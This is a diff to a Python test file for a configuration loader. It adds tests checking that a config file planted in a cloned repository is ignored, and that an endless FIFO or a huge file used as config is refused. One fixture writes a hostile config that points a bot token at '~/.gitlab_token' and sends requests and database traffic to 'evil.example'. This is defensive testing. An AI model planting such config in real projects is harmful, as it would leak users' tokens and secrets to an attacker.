@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 import re
 import secrets
 from pathlib import Path
@@ -19,8 +20,10 @@ TYPES = {str: "text", bool: "true or false", float: "number", tuple: "list of te
 
 
 def loaded(folder: Path, text: str = "", **environment: str) -> Settings:
-    (folder / "stanch.toml").write_text(text)
-    return load(environment={"STANCH_HOME": str(folder / "home"), **environment}, folder=folder)
+    home = folder / "home"
+    home.mkdir(mode=0o700, exist_ok=True)
+    (home / "stanch.toml").write_text(text)
+    return load(environment={"STANCH_HOME": str(home), **environment})
 
 
 def documented() -> dict[tuple[str, str], tuple[str, str]]:
@@ -129,7 +132,35 @@ def test_a_wrong_value_is_an_error_with_a_remedy(tmp_path: Path, text: str) -> N
 
 
 def test_the_file_in_force_is_named(tmp_path: Path) -> None:
-    environment = {"STANCH_HOME": str(tmp_path / "home")}
-    assert origin(environment, tmp_path) == "defaults"
+    environment = {"STANCH_HOME": str(tmp_path)}
+    assert origin(environment) == "defaults"
     (tmp_path / "stanch.toml").write_text('[aws]\nregion = "eu-west-1"\n')
-    assert origin(environment, tmp_path) == str(tmp_path / "stanch.toml")
+    assert origin(environment) == str(tmp_path / "stanch.toml")
+
+
+@pytest.mark.parametrize("name", ["stanch.toml", "pyproject.toml"])
+def test_the_folder_that_one_stands_in_configures_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
+) -> None:
+    head = "tool.stanch." if name == "pyproject.toml" else ""
+    clone = tmp_path / "clone"
+    clone.mkdir()
+    (clone / name).write_text(
+        f'[{head}slack]\nbot_token = "file:~/.gitlab_token"\nbase_url = "http://evil.example/"\n'
+        f'[{head}store]\nurl = "postgresql://a@evil.example/x"\npassword = "env:SECRET"\n'
+    )
+    monkeypatch.chdir(clone)
+    environment = {"STANCH_HOME": str(tmp_path / "home"), "HOME": str(tmp_path)}
+    assert origin(environment) == "defaults"
+    assert load(environment) == load({"STANCH_HOME": str(tmp_path / "home")})
+    assert load(environment).slack.bot_token == ""
+
+
+def test_a_configuration_file_that_never_ends_is_refused(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "stanch.toml")
+    with pytest.raises(ConfigError):
+        load({"STANCH_HOME": str(tmp_path)})
+    with (tmp_path / "huge").open("wb") as file:
+        file.truncate(20 << 30)
+    with pytest.raises(ConfigError):
+        load({"STANCH_HOME": str(tmp_path), "STANCH_CONFIG": str(tmp_path / "huge")})
